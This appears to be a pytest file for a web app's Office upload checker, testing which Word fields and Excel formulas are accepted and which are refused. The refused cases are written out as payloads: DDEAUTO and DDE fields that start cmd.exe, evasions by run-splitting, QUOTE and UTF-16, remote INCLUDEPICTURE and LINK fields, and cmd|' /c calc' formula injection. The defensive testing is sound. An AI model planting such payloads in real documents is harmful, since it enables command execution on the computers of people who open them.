"""Fields of text documents and formulas of workbooks: what works something out, and what reaches out."""

from __future__ import annotations

import pytest

from tests.webapp.evidence.making import (
    SHEETS,
    TEXT_TYPE,
    document,
    field_runs,
    formula_sheet,
    sheet,
    text_document,
    types_xml,
    word_xml,
    zipped,
)
from webapp.evidence.office import office_kind
from webapp.evidence.problems import FileRefused

BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{type_}"/></w:r>' for type_ in ("begin", "separate", "end")
)


def _code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def _simple(text: str) -> str:
    return f'<w:fldSimple w:instr="{text}"/>'


SOUND = {
    "the number of the page": field_runs(" PAGE   \\* MERGEFORMAT "),
    "in small letters": field_runs(" page "),
    "over runs": field_runs(" NUM", "PAGES "),
    "a list of contents": field_runs(' TOC \\o "1-3" \\h \\z \\u '),
    "a link": field_runs(' HYPERLINK "https://eksempel.no" '),
    "a link within": field_runs(' HYPERLINK \\l "_Toc1" \\o "Kilde: SSB" '),
    "a link without space": field_runs('HYPERLINK"https://eksempel.no"'),
    "a caption": _simple(" SEQ Figur \\* ARABIC "),
    "a sum": field_runs(" =SUM(ABOVE) "),
    "a field in a field": BEGIN + _code(" = ") + field_runs("PAGE") + _code(" - 1 ") + SEPARATE + END,
    "a reference of Zotero": field_runs(' ADDIN ZOTERO_ITEM CSL_CITATION {"a": "DDEAUTO"} '),
    "a place to write": field_runs(" MACROBUTTON NoMacro [Navn] "),
    "a field of a form": field_runs(" FORMTEXT "),
    "nothing": field_runs(" "),
    "a picture that was pasted on a Mac": field_runs(
        ' INCLUDEPICTURE "/var/folders/a/page1image1.png" \\* MERGEFORMATINET '
    ),
    "a picture of a letter": field_runs(' INCLUDEPICTURE "cid:image001.png@01D8" \\* MERGEFORMATINET '),
    "words about it": "<w:r><w:t>DDEAUTO c:\\windows er farlig</w:t></w:r>",
    "words in what a field gives": BEGIN + _code(" REF a ") + SEPARATE + "<w:r><w:t>DDE</w:t></w:r>" + END,
    "a field that never ends": BEGIN + _code(" PAGE "),
}


@pytest.mark.parametrize("body", SOUND.values(), ids=SOUND)
def test_fields_that_work_something_out_pass(body: str) -> None:
    assert office_kind(document(body)) == "docx"


COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
HOSTILE = {
    "a command": field_runs(COMMAND),
    "a command when asked": field_runs(" DDE excel a b "),
    "a command in small letters": field_runs(" ddeauto excel a "),
    "a command over runs": field_runs("DD", "EAU", "TO excel a"),
    "a command in plain text": field_runs("DDEAUTO excel a", element="t"),
    "a command in both": BEGIN + _code("DDE") + "<w:r><w:t>AUTO excel</w:t></w:r>" + SEPARATE + END,
    "a command in one piece": _simple("DDEAUTO excel a"),
    "a command that was deleted": field_runs("DDEAUTO excel a", element="delInstrText"),
    "a command after a tab": field_runs("\tDDEAUTO\texcel a"),
    "a command in a field": BEGIN + _code(" IF ") + field_runs("DDEAUTO excel") + SEPARATE + END,
    "a command in what a field gives": BEGIN + _code(" REF a ") + SEPARATE + field_runs("DDEAUTO x") + END,
    "a command whose name is worked out": BEGIN
    + field_runs(" QUOTE 68 68 69 ")
    + _code(" x ")
    + SEPARATE
    + END,
    "a command whose name is half worked out": BEGIN + _code("DD") + field_runs("QUOTE 69") + SEPARATE + END,
    "a command that is never ended": BEGIN + _code("DDEAUTO excel a"),
    "a command outside of any field": _code("DDEAUTO excel a"),
    "a command where a box ends the field": (
        f"{BEGIN}<w:r><w:txbxContent><w:p>{SEPARATE}</w:p></w:txbxContent></w:r>"
        f"<w:r><w:t>DDEAUTO excel</w:t></w:r>{SEPARATE}{END}"
    ),
    "a link to another file": field_runs(' LINK Excel.Sheet.12 "http://x.example/a.xlsx" \\a '),
    "text of elsewhere": field_runs(' INCLUDETEXT "http://x.example/a.xml" '),
    "a picture of elsewhere": field_runs(' INCLUDEPICTURE "http://x.example/a.png" \\d '),
    "a picture of a share": field_runs(' INCLUDEPICTURE "\\\\\\\\server\\\\a.png" \\d '),
    "a picture whose place is worked out": (
        BEGIN + _code(" INCLUDEPICTURE ") + field_runs("QUOTE 1") + SEPARATE + END
    ),
    "a link to a share": field_runs(' HYPERLINK "\\\\\\\\server\\\\a" '),
    "a link to a program": field_runs(' HYPERLINK "file:///C:\\\\Windows\\\\calc.exe" '),
    "a mark with two meanings": (
        f'<w:r><w:fldChar x:fldCharType="end" w:fldCharType="begin" xmlns:x="x"/></w:r>{_code("PAGE")}{END}'
    ),
    "a database": field_runs(' DATABASE \\c "x" '),
    "a field that nobody knows": field_runs(" ANNET 1 "),
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
def test_fields_that_reach_out_are_refused(body: str) -> None:
    with pytest.raises(FileRefused) as refused:
        office_kind(document(body))

    assert refused.value.code in ("remote", "broken")


@pytest.mark.parametrize(
    "part", ["word/footer1.xml", "word/footnotes.xml", "word/glossary/document.xml", "customXml/a.xml"]
)
def test_a_command_is_found_in_every_part(part: str) -> None:
    with pytest.raises(FileRefused, match="remote"):
        office_kind(document(field_runs(COMMAND), part))


def test_a_command_is_found_in_the_document_itself() -> None:
    main = "word/document.xml"
    parts = {
        "[Content_Types].xml": types_xml((main, TEXT_TYPE)),
        main: word_xml(field_runs(COMMAND)),
    }

    with pytest.raises(FileRefused, match="remote"):
        office_kind(zipped(parts))


def test_a_command_is_found_in_another_encoding_and_under_another_prefix() -> None:
    xml = word_xml(field_runs(COMMAND)).replace("w:", "q:").replace(":w=", ":q=")
    hidden = f'<?xml version="1.0" encoding="UTF-16"?>{xml}'.encode("utf-16")

    with pytest.raises(FileRefused, match="remote"):
        office_kind(text_document(**{"word/header1.xml": hidden}))


FORMULAS = [
    "SUM(A1:B2)",
    "Ark2!A1*2",
    "'Avfall | 2025'!A1",
    'IF(A1="a|b","http://eksempel.no",1)',
    "Tabell1[Pris|kg]*2",
    "[1]Ark1!$A$1",
    'HYPERLINK("#Ark2!A1","Til Ark2")',
    "_xlfn.XLOOKUP(A1,B1:B3,C1:C3)",
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://x"",""A1"")"),5)',
    "'It''s'!A1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_that_work_something_out_pass(formula: str) -> None:
    assert office_kind(formula_sheet(formula)) == "xlsx"


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "2+5+cmd|' /C calc'!A0",
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
        "cmd  |'/c calc'!A0",
        "SUM(MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0)",
        '_xlfn.WEBSERVICE("http://x.example/"&A1)',
        '_xlfn.IMAGE("http://x.example/a.png")',
        'RTD("a","b")',
        'CALL("a","b")',
        'REGISTER.ID("a","b")',
        "'\\\\server\\[a.xlsx]Ark1'!A1",
        "'http://x.example/[a.xlsx]Ark1'!A1",
    ],
)
def test_formulas_that_call_out_are_refused(formula: str) -> None:
    with pytest.raises(FileRefused) as refused:
        office_kind(formula_sheet(formula))

    assert refused.value.code == "commands"


def test_a_name_can_stand_for_no_command() -> None:
    name = "<definedName name=\"a\">cmd|'/c'!A0</definedName>"
    xml = f'<workbook xmlns="{SHEETS}"><definedNames>{name}</definedNames></workbook>'

    with pytest.raises(FileRefused, match="commands"):
        office_kind(sheet(**{"xl/names.xml": xml}))


def test_a_column_that_is_called_formula_in_somebody_s_own_part_is_none() -> None:
    assert office_kind(sheet(**{"customXml/item1.xml": "<a><f>cmd|'/c'!A0</f></a>"})) == "xlsx"
